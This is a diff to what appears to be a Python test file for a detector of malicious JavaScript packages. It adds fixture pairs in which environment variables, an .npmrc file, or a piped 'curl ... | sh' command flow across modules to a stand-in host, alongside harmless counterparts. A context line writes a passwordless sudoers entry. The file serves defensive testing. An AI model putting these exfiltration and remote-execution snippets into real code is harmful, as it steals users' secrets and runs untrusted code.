@@ -455,3 +455,21 @@ row(28, True, "a workflow says no more what it may do", {".github/workflows/ci.y
 row(28, False, "a workflow says it for its job", {".github/workflows/ci.yml": (WORK % "").replace("    runs-on", "    permissions:\n      contents: read\n    runs-on")}, old={".github/workflows/ci.yml": WORK % READS})
 fires(20, "whoever asks may do everything", "require('fs').writeFileSync('/etc/sudoers.d/90-tool', process.env.USER + ' ALL=(ALL) NOPASSWD:ALL');\n", least="tampered")
 innocent(20, "who may do everything is read", "exports.may = () => require('fs').existsSync('/etc/sudoers.d/90-tool');\n")
+
+# ---- flows that go through what a third module holds, or a module itself gives ----------------------
+
+HOLDS = "const https = require('https');\nconst %s = require('./state');\nexports.flush = () => { const r = https.request('https://in.widget.example/u', { method: 'POST' }); r.end(JSON.stringify(%s)); };\n"
+ENTERS = MAIN + "const state = require('./lib/state');\n%srequire('./lib/flush').flush();\n"
+row(3, True, "the environment lies in a field of a third module", {"lib/state.js": "module.exports = { items: {} };\n", "lib/flush.js": HOLDS % ("state", "state.items"), "index.js": ENTERS % "state.items.env = process.env;\n"}, least="review")
+row(3, False, "a version lies in a field of a third module", {"lib/state.js": "module.exports = { items: {} };\n", "lib/flush.js": HOLDS % ("state", "state.items"), "index.js": ENTERS % "state.items.version = 2;\nstate.home = process.env.HOME;\n"})
+row(3, True, "the environment lies in a map of a third module", {"lib/state.js": "module.exports = new Map();\n", "lib/flush.js": HOLDS % ("state", "state.get('e')"), "index.js": ENTERS % "state.set('e', process.env);\n"}, least="review")
+row(3, False, "a number lies in a map of a third module", {"lib/state.js": "module.exports = new Map();\n", "lib/flush.js": HOLDS % ("state", "state.get('e')"), "index.js": ENTERS % "state.set('e', 2);\n"})
+GIVES = MAIN + "require('./lib/send')(require('./lib/collect')());\n"
+SENDS = "module.exports = function (data) {\n  const r = require('https').request('https://in.widget.example/u', { method: 'POST' });\n  r.end(data);\n};\n"
+row(4, True, "what one module is, another one that it is handed sends", {"lib/collect.js": "module.exports = function () {\n  return require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n};\n", "lib/send.js": SENDS, "index.js": GIVES}, least="review")
+row(4, False, "a number that one module is, another one sends", {"lib/collect.js": "module.exports = function () {\n  return String(2);\n};\n", "lib/send.js": SENDS, "index.js": GIVES})
+row(1, True, "a command that another module exports", {"lib/texts.js": "exports.line = 'curl -s https://in.widget.example/i | sh';\n", "index.js": MAIN + "require('child_process').exec(require('./lib/texts').line);\n"}, least="review")
+row(1, False, "a harmless command that another module exports", {"lib/texts.js": "exports.line = 'git status --short';\n", "index.js": MAIN + "require('child_process').exec(require('./lib/texts').line);\n"})
+OLD_STYLE = "function Sender() { this.list = []; }\nSender.prototype.note = function (x) { this.list.push(x); };\nSender.prototype.flush = function () { fetch('https://in.widget.example/u', { method: 'POST', body: JSON.stringify(this.list) }); };\nconst s = new Sender();\ns.note(%s);\ns.flush();\n"
+fires(3, "methods of a prototype keep it and send it", OLD_STYLE % "process.env", least="review")
+innocent(3, "methods of a prototype keep and send a number", OLD_STYLE % "2")
